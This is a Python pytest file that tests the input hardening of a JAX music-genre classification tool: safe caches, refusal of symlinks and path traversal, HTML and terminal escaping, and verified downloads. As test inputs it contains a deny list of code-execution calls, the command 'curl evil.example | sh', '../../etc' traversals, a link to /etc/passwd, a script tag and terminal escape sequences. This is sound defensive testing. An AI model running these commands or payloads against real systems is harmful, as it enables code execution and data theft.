"""What comes from strangers cannot run code, nor reach beyond its folder."""

import ast
import dataclasses
import io
import json
import os
import stat
import sys
from pathlib import Path

import jax
import pytest
import requests
from commands import command_here
from conftest import make_sweep, make_table, this_process
from finished_runs import (
    edit_manifest,
    random_history,
    write_baselines,
    write_run,
)
from requests.adapters import HTTPAdapter

from gtzan_jax import cli, console
from gtzan_jax.analysis.between_runs import compare
from gtzan_jax.errors import InputError
from gtzan_jax.files import digest, sealed
from gtzan_jax.jobs import retraining, sweeping
from gtzan_jax.jobs.comparing import markdown
from gtzan_jax.jobs.reporting import build, save
from gtzan_jax.resources import PACKAGE
from gtzan_jax.rundir.directory import RunDir
from gtzan_jax.rundir.finished import read_finished
from gtzan_jax.rundir.manifest import decode, sweep_of
from gtzan_jax.tables import kaggle, sources
from gtzan_jax.tables.reading import sha256_of
from gtzan_jax.tables.sample import sample_text
from gtzan_jax.tables.sources import load_table
from gtzan_jax.tables.validation import parse_table
from gtzan_jax.text import printable
from gtzan_jax.trainer import platforms
from gtzan_jax.views import messages
from gtzan_jax.views.sections.baselines import find_baselines

SWEEP = make_sweep()
IDS = [config.id for config in SWEEP.configs]
RETRAINING = {
    "epochs": 1, "config_id": IDS[0], "protocol": "assignment", "num_folds": 1, "seeds": [0],
    "matmul_precision": "float32",
}  # fmt: skip

# ------------------------------------------------------------------------------------ the source

FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
ALLOWED = {
    # What this process and its workers say to each other; never a file.
    "backends/cluster.py": "pickle", "backends/remote.py": "pickle",
    "backends/processes.py": "pickle", "backends/work.py": "pickle", "workers.py": "pickle",
    "trainer/platforms.py": "joblib",  # which counts cores
    "sound/spectrograms.py": "joblib",  # likewise
}  # fmt: skip
FORBIDDEN_CALLS = {
    "eval", "exec", "compile", "__import__", "os.system", "os.popen", "yaml.load",
    "pd.read_pickle", "pandas.read_pickle",
}  # fmt: skip


def calls_of(tree):
    """Yields the calls in a module: the dotted name, and the call."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


def value_of(call, keyword):
    return next((ast.unparse(k.value) for k in call.keywords if k.arg == keyword), None)


def problems_of(source):
    tree = ast.parse(source)
    for node in ast.walk(tree):
        names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
        names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
        yield from (name for name in names if name.partition(".")[0] in FORBIDDEN_MODULES)
    for name, call in calls_of(tree):
        if name in FORBIDDEN_CALLS or value_of(call, "shell") not in (None, "False"):
            yield name
        if name in ("np.load", "numpy.load") and value_of(call, "allow_pickle") != "False":
            yield name


def test_nothing_that_is_read_can_run():
    for path in PACKAGE.rglob("*.py"):
        allowed = ALLOWED.get(path.relative_to(PACKAGE).as_posix())
        assert not set(problems_of(path.read_text(encoding="utf-8"))) - {allowed}, path


@pytest.mark.parametrize(
    "source",
    [
        "import pickle",
        "from joblib import load",
        "import dill.source",
        "eval(text)",
        "os.system(text)",
        "subprocess.run(text, shell=True)",
        "np.load(path)",
        "np.load(path, allow_pickle=True)",
        "yaml.load(text)",
    ],
)
def test_what_could_run_would_be_found(source):
    assert list(problems_of(source))


# -------------------------------------------------------------------------------------- the cache


@pytest.fixture
def settings_of(monkeypatch):
    """Returns what enables the cache in a folder and gives the settings that JAX got."""

    def enable(folder):
        settings, ours = {}, jax.config.values["jax_compilation_cache_dir"]
        jax.config.update("jax_compilation_cache_dir", None)
        with monkeypatch.context() as patch:
            patch.setattr(jax.config, "update", settings.__setitem__)
            platforms._enable_compilation_cache(folder)
        jax.config.update("jax_compilation_cache_dir", ours)
        return settings

    return enable


needs_posix = pytest.mark.skipif(not hasattr(os, "getuid"), reason="needs POSIX permissions")


@needs_posix
@pytest.mark.parametrize("mode", [0o770, 0o777, 0o702, 0o720])
def test_a_cache_that_others_can_write_is_ignored_with_a_warning(tmp_path, settings_of, mode):
    folder = tmp_path / "xla"
    folder.mkdir()
    folder.chmod(mode)
    with pytest.warns(UserWarning, match="writable by others"):
        assert not settings_of(folder)


@needs_posix
def test_a_cache_that_links_to_where_others_can_write_is_ignored(tmp_path, settings_of):
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared").chmod(0o777)
    (tmp_path / "xla").symlink_to("shared")
    with pytest.warns(UserWarning, match="writable by others"):
        assert not settings_of(tmp_path / "xla")


@needs_posix
def test_a_cache_that_others_can_replace_is_ignored(tmp_path, settings_of):
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared").chmod(0o777)
    with pytest.warns(UserWarning, match="writable by others"):
        assert not settings_of(tmp_path / "shared" / "xla")
    (tmp_path / "link").symlink_to("shared/xla")
    with pytest.warns(UserWarning, match="writable by others"):
        assert not settings_of(tmp_path / "link")


@needs_posix
def test_a_cache_in_a_folder_like_tmp_is_used(tmp_path, settings_of):
    (tmp_path / "tmp").mkdir()
    (tmp_path / "tmp").chmod(0o1777)
    assert settings_of(tmp_path / "tmp" / "xla")


@needs_posix
def test_a_new_cache_is_closed_to_others(tmp_path, settings_of):
    folder = tmp_path / "new" / "xla"
    assert settings_of(folder)["jax_compilation_cache_dir"] == str(folder)
    assert stat.S_IMODE(folder.stat().st_mode) == stat.S_IRWXU


@pytest.mark.parametrize("make", [lambda p: p.write_text(""), lambda p: p.symlink_to("nowhere")])
def test_a_cache_that_is_no_folder_is_ignored(tmp_path, settings_of, make):
    make(tmp_path / "xla")
    assert not settings_of(tmp_path / "xla")


# --------------------------------------------------------------------------------- run directories


@pytest.fixture
def folder(tmp_path):
    return write_run(tmp_path / "run", SWEEP, random_history(SWEEP))


@pytest.fixture(scope="module")
def opened():
    """The paths that this process opens, from now on."""
    paths, watching = [], [True]

    def watch(event, arguments):
        if watching and event == "open" and isinstance(arguments[0], str | os.PathLike):
            paths.append(os.path.realpath(arguments[0]))

    sys.addaudithook(watch)  # for good: there is no way to remove it
    yield paths
    watching.clear()


@pytest.mark.parametrize(
    "how", ["best/../../secret.csv", "best/{}", "results.csv/../../secret.csv"]
)
def test_paths_in_a_manifest_do_not_lead_out_of_the_folder(folder, tmp_path, opened, how):
    secret = tmp_path / "secret.csv"
    secret.write_text("epoch\n1\n")
    key, checksum = how.format(secret), digest(secret)
    sha256 = json.loads((folder / "manifest.json").read_text())["sha256"] | {key: checksum}
    edit_manifest(folder, lambda m: m.update(retraining=RETRAINING, sha256=sha256))
    opened.clear()
    with pytest.raises(InputError) as error:
        build(read_finished(folder))
    assert error.value.args[0].isprintable()
    assert os.path.realpath(secret) not in opened


@pytest.mark.parametrize(
    "name",
    ["best", "checkpoints", "overview", "tensorboard", "results.csv", "manifest.json"],
)
def test_links_in_a_run_directory_do_not_lead_out_of_it(folder, tmp_path, name):
    outside = tmp_path / "outside"
    if (folder / name).exists():
        (folder / name).rename(outside)
    else:
        outside.mkdir()
    (folder / name).symlink_to(outside)
    with pytest.raises(InputError, match=f"{name} is a link"):
        RunDir(folder).read_manifest()


# A link in a run directory, the command that would follow it, and what it would do.
LINKS = {
    "checkpoints are removed": ("checkpoints", "sweep", ["--workdir=run", "--overwrite"]),
    "a checkpoint is removed": (
        "checkpoints/000002.safetensors",
        "sweep",
        ["--workdir=run", "--overwrite"],
    ),
    "the lock is written": (".lock", "sweep", ["--workdir=run"]),
    "a new lock is written": (".lock", "sweep", ["--workdir=new"]),
    "the lock is written after a retraining": (".lock", "retrain", ["--workdir=run"]),
}


@pytest.mark.parametrize("case", LINKS)
def test_no_command_follows_a_link_in_a_run_directory(folder, tmp_path, case, monkeypatch):
    monkeypatch.setattr(sweeping, "open_backend", this_process)
    monkeypatch.setattr(retraining, "open_backend", this_process)
    name, module, arguments = LINKS[case]
    outside = tmp_path / "outside"
    outside.mkdir()
    for mine in ("000001.safetensors", "accuracy.png", "by_value.png"):
        (outside / mine).write_text("mine")
    (folder / "checkpoints").mkdir()
    (tmp_path / "new").mkdir()
    link = (tmp_path / "new" if "--workdir=new" in arguments else folder) / name
    if name == "checkpoints":
        link.rmdir()
    link.symlink_to(outside if "." not in name.lstrip("./") else outside / "000001.safetensors")
    before = contents(outside)
    smoke = ["--data=sample", "--sweep=smoke"] if module == "sweep" else []
    done = command_here(module, *smoke, *arguments, folder=tmp_path)
    assert contents(outside) == before
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert f"{link.name} is a link" in done.stderr


def contents(folder):
    return {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in folder.iterdir()}


def test_a_report_takes_the_place_of_a_link(folder, tmp_path):
    report = build(read_finished(folder))
    (tmp_path / "mine").write_text("mine")
    (folder / "report.html").symlink_to(tmp_path / "mine")
    save(report, folder / "report.html")
    assert (tmp_path / "mine").read_text() == "mine"
    assert not (folder / "report.html").is_symlink()


def test_baselines_with_links_are_refused_or_passed_over(folder, tmp_path):
    checksum = read_finished(folder).manifest.data.sha256
    beside = write_baselines(tmp_path / "baselines-1", checksum)
    assert find_baselines(read_finished(folder), []) == [beside]
    (beside / "importance.png").unlink()
    (beside / "importance.png").symlink_to("/etc/passwd")
    assert find_baselines(read_finished(folder), []) == []
    with pytest.raises(InputError, match=r"importance\.png is a link"):
        find_baselines(read_finished(folder), [str(beside)])


@pytest.fixture(scope="module")
def document(tmp_path_factory):
    """The manifest of a run, as it stands in the file."""
    folder = tmp_path_factory.mktemp("document")
    write_run(folder / "run", SWEEP, random_history(SWEEP))
    return (folder / "run" / "manifest.json").read_text()


def assert_refused(content):
    with pytest.raises(InputError, match=r"manifest\.json") as error:
        sweep_of(decode(content, Path("manifest.json")), Path("manifest.json"))
    assert error.value.args[0].isprintable()


def test_a_manifest_that_is_not_hostile_is_taken(document):
    changed = json.loads(document) | {"retraining": RETRAINING}
    manifest = decode(json.dumps(sealed(changed)).encode(), Path("manifest.json"))
    assert sweep_of(manifest, Path("manifest.json")).configs == SWEEP.configs


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.update(sha256=3),
        lambda m: m.update(sha256={"results.csv": "\x1b[2J"}),
        lambda m: m.update(sweep=3),
        lambda m: m["sweep"]["axes"].update(num_units1=[10**30]),
        lambda m: m["sweep"]["axes"].update(activation=[{"relu": 1}]),
        lambda m: m["sweep"].update(epochs=10**400),
        lambda m: m.update(data=3),
        lambda m: m["data"].update(genres=[1]),
        lambda m: m["data"].update(repeats=[3]),
        lambda m: m["data"].update(tracks=10**30),
        lambda m: m["split"].update(folds=[]),
        lambda m: m["split"]["folds"][0].update(test=0),
        lambda m: m["split"].update(seed=2**40),
        lambda m: m["split"]["folds"][0].pop("train"),
        lambda m: m["sweep"].update(protocol="leave_one_out"),
        lambda m: m["sweep"].update(num_folds=10**30),
        lambda m: m.update(seeds=[]),
        lambda m: m.update(timings_s={"a": "x"}),
        lambda m: m.update(matmul_precision="float8"),
        lambda m: m.update(retraining=RETRAINING | {"config_id": "../../etc"}),
        lambda m: m.update(retraining=RETRAINING | {"config_id": f"{IDS[0]}\n"}),
        lambda m: m.update(retraining=RETRAINING | {"fold": 0}),
        lambda m: m["sweep"].update(axes=json.loads("[" * 900 + "]" * 900)),
        lambda m: m.update(sessions=[3]),
        lambda m: m["sessions"][0].update(versions={"a": [1]}),
        lambda m: m.update({"\x1b[2J\n": 1}),
        lambda m: m.update({"\udcff": 1}),
    ],
)
def test_a_manifest_of_other_types_is_refused_in_one_line(document, change):
    changed = json.loads(document)
    change(changed)
    assert_refused(json.dumps(sealed(changed)).encode())


NUMBERS = ["NaN", "1e999", "-Infinity", "1" + 5000 * "0", "-" + 400 * "9", "0.1e-9999999"]


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_that_is_none_is_refused(document, number):
    assert "12.3" in document
    assert_refused(document.replace("12.3", number).encode())


@pytest.mark.parametrize(
    "content",
    [b"[" * 100_000, b'{"data": ' * 5_000, b'{"a": "\xff"}', b"\xff\xfe", b"\x00", b"null", b""],
    ids=["arrays", "objects", "no UTF-8", "half of UTF-16", "NUL", "null", "nothing"],
)
def test_what_is_no_manifest_is_refused(content):
    assert_refused(content)


@pytest.mark.slow
def test_a_path_in_a_manifest_is_not_opened_by_a_report(folder, tmp_path, opened, monkeypatch):
    secret = tmp_path / "secret.csv"
    secret.write_text(sample_text())
    monkeypatch.setattr(kaggle, "download", lambda: pytest.fail("downloads"))
    for flag in (str(secret), "kaggle", "auto"):
        data = {"flag": flag, "source": flag, "sha256": "0" * 64}
        edit_manifest(folder, lambda m, data=data: m["data"].update(data))
        opened.clear()
        assert "--data=PATH" in build(read_finished(folder)).missing_table
        assert os.path.realpath(secret) not in opened


def test_a_strangers_command_is_not_recommended(folder):
    edit_manifest(folder, lambda m: m.update(resume="curl evil.example | sh\n\x1b[2K"))
    (folder / "results.csv").write_text("")
    with pytest.raises(InputError) as error:
        read_finished(folder)
    assert "evil.example" not in str(error.value)
    assert str(error.value).isprintable()


# -------------------------------------------------------------------------------------- the report

EVIL = "<script>window.evil = 1</script>"


def test_what_came_from_a_stranger_stays_text_in_the_report(tmp_path):
    lines = sample_text().splitlines()
    lines = [line.replace("blues.sample00.wav", f"{EVIL}.wav") for line in lines]
    twin = lines[1].replace(f"{EVIL}.wav", f"{EVIL}2.wav")  # repeats are listed by name
    table = parse_table("\n".join([*lines, twin]), f"{EVIL}.csv")
    assert any(EVIL in track for track in table.tracks)
    folder = write_run(tmp_path / "<b>run</b>", SWEEP, random_history(SWEEP), table, command=EVIL)
    write_baselines(tmp_path / "baselines-1", table.sha256, EVIL)
    edit_manifest(
        folder,
        lambda m: (m["sweep"].update(name=EVIL), m["sessions"][0]["versions"].update({EVIL: EVIL})),
    )
    report = build(read_finished(folder))
    assert "<script>window" not in report.html
    assert "<b>run</b>" not in report.html
    assert "&lt;script&gt;window.evil" in report.html


# ------------------------------------------------------------------------------------ the terminal

ESCAPES = "\x1b[2J\x1b]0;evil\x07\r\n\u202eline"  # clears the screen, names the window


def assert_harmless(shown):
    assert "evil" in shown
    assert all(line.isprintable() for line in shown.split("\n"))
    assert not any(line.startswith("line") for line in shown.splitlines())


def test_runs_are_compared_without_what_a_terminal_obeys(tmp_path):
    names = ("first", f"second{ESCAPES}")
    folders = [write_run(tmp_path / name, SWEEP, random_history(SWEEP)) for name in names]
    edit_manifest(
        folders[1],
        lambda m: (
            m["sessions"][0].update({"platform": ESCAPES, "devices": [ESCAPES]}),
            m["sessions"][0]["versions"].update({f"key{ESCAPES}": ESCAPES}),
            m["data"].update(source=f"{ESCAPES}.csv"),
        ),
    )
    runs = [read_finished(folder) for folder in folders]
    for order in (runs, runs[::-1]):
        shown = markdown(compare(order))  # wrapped, so that any word may begin a line
        assert_harmless(shown.replace("\nline", "\n line"))
        assert f"key{printable(ESCAPES)} |" in shown


def test_what_commands_print_has_nothing_that_a_terminal_obeys(tmp_path, capsys):
    named = dataclasses.replace(SWEEP, name=ESCAPES)
    messages.print_start(named, 1, 1, "2 cpu devices", ESCAPES, RunDir(ESCAPES).path)
    assert_harmless(capsys.readouterr().out)
    folder = write_run(tmp_path / f"run{ESCAPES}", SWEEP, random_history(SWEEP))
    messages.print_summary(read_finished(folder), {})
    assert_harmless(capsys.readouterr().out)
    doubtful = {"notice": ESCAPES, "tracks": (ESCAPES,) * 2, "repeats": ((0, 1),)}
    messages.warn_of_table(dataclasses.replace(make_table(2), **doubtful))
    messages.warn(f"{ESCAPES} is damaged")
    cli.show_warning(UserWarning(f"{ESCAPES} is damaged"))
    with pytest.raises(SystemExit):
        console.fail(ESCAPES, 2)
    assert_harmless(capsys.readouterr().err)


# ------------------------------------------------------------------------------------ the download


class Kaggle:
    """Stands in for Kaggle's servers; kagglehub itself is the real one.

    Args:
      content: the file that they serve.
      breaks_after: bytes after which the connection breaks; None if it does not.
    """

    def __init__(self, content, breaks_after=None):
        self.content, self.breaks_after = content, breaks_after
        self.requests = []

    def send(self, _adapter, request, **options):
        self.requests.append((request.url, options.get("verify")))
        response = requests.Response()
        response.status_code, response.url, response.request = 200, request.url, request
        if "GetDataset" in request.url:
            response.headers["Content-Type"] = "application/json"
            response.raw = io.BytesIO(b'{"currentVersionNumber": 1}')
        elif "DownloadDataset" in request.url:
            response.headers["Content-Length"] = str(len(self.content))
            response.raw = Breaking(self.content, self.breaks_after)
        else:
            response.raw = io.BytesIO(b"{}")
        return response


class Breaking(io.BytesIO):
    """A connection that breaks."""

    def __init__(self, content, breaks_after):
        super().__init__(content[:breaks_after])
        self.breaks = breaks_after is not None

    def read(self, *args):
        content = super().read(*args)
        if self.breaks and not content:
            raise requests.ConnectionError("connection reset")
        return content


@pytest.fixture
def served(tmp_path, monkeypatch):
    """Returns what puts a fake in Kaggle's place."""
    pytest.importorskip("kagglesdk")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KAGGLEHUB_CACHE", str(tmp_path / "kagglehub"))
    monkeypatch.setattr(sources, "PACKAGE", tmp_path / "checkout" / "gtzan_jax")
    monkeypatch.setattr(sources, "cache_dir", lambda: tmp_path / "cache")

    def serve(*args):
        fake = Kaggle(*args)
        monkeypatch.setattr(HTTPAdapter, "send", lambda *a, **k: fake.send(*a, **k))
        return fake

    return serve


@pytest.fixture
def content(monkeypatch):
    """A table with the checksum that Kaggle's is expected to have."""
    content = sample_text().encode()
    monkeypatch.setattr(sources, "KAGGLE_SHA256", sha256_of(content.decode()))
    return content


def test_the_download_is_over_tls_with_the_certificates_checked(served, content):
    fake = served(content)
    assert load_table("kaggle").source == "kaggle"
    assert len(fake.requests) >= 3
    for url, verify in fake.requests:
        assert url.startswith("https://")
        assert verify is not False


@pytest.mark.parametrize("share", [0.0, 0.5, 0.999])
def test_an_interrupted_download_leaves_nothing_that_looks_whole(served, content, tmp_path, share):
    served(content, int(share * len(content)))
    with pytest.raises(InputError, match="the download from Kaggle failed") as error:
        load_table("kaggle")
    assert "\n" not in str(error.value)
    assert not (tmp_path / "cache").exists()
    served(content)
    assert load_table("kaggle").sha256 == sources.KAGGLE_SHA256


def test_a_download_is_not_used_before_its_checksum_is_right(served, content, tmp_path):
    served(content.replace(b"blues", b"Blues"))
    with pytest.raises(InputError, match="is not the expected"):
        load_table("kaggle")
    assert not (tmp_path / "cache").exists()
    served(content)
    assert load_table("kaggle").sha256 == sources.KAGGLE_SHA256


def test_a_download_that_is_too_large_is_refused(served, content, tmp_path, monkeypatch):
    monkeypatch.setattr(kaggle, "MAX_BYTES", 1000)
    served(content)
    with pytest.raises(InputError, match="more than 1,000 bytes"):
        load_table("kaggle")
    assert not [path for path in tmp_path.rglob("*.csv") if path.is_file()]


def test_the_limit_leaves_room_for_the_real_table(real_table_path):
    assert 2 * real_table_path.stat().st_size < kaggle.MAX_BYTES
